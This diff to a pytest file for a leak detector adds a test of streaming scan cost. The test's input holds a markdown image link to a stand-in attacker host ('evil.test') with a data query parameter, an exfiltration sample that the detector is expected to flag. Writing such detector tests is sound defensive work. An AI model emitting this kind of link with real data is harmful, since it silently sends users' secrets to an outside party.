@@ -6,7 +6,7 @@ import base64
 
 import pytest
 
-from vallum.detect import Action, DetectorConfig, Outcome
+from vallum.detect import Action, DetectorConfig, Finding, Outcome
 from vallum.detect.leak import MAX_HOLD, LeakDetector
 
 CANARY = "vlm-canary-5e1f0a9b"
@@ -188,3 +188,28 @@ def test_feeding_a_closed_stream_is_an_error() -> None:
     stream.close()
     with pytest.raises(ValueError, match="closed"):
         stream.feed("more")
+
+
+class _CountingLeak(LeakDetector):
+    """Records how many characters each scan reads (the real detector does the work)."""
+
+    scanned: list[int]
+
+    def find(self, text: str) -> list[Finding]:
+        self.scanned.append(len(text))
+        return super().find(text)
+
+
+@pytest.mark.parametrize("size", [1, 16])
+def test_streaming_work_stays_linear_even_under_a_long_hold(size: int) -> None:
+    d = _CountingLeak(canaries=[CANARY], allowed_domains=["example.com"], phi=False)
+    d.scanned = []
+    text = "Look: ![x](https://evil.test/p?d=" + "A" * 1900 + ") and then plain words. " * 3
+    stream = d.stream()
+    released = "".join(stream.feed(text[i : i + size])[0] for i in range(0, len(text), size))
+    rest, verdict = stream.close()
+    assert released + rest == text
+    assert "EXFILTRATION_LINK" in {f.type for f in verdict.findings}
+    # each scan re-reads at most the held text plus context: never the whole prefix again
+    assert sum(d.scanned) <= 4 * len(text) + 1024
+    assert max(d.scanned) <= 2 * MAX_HOLD + 2 * 96 + size
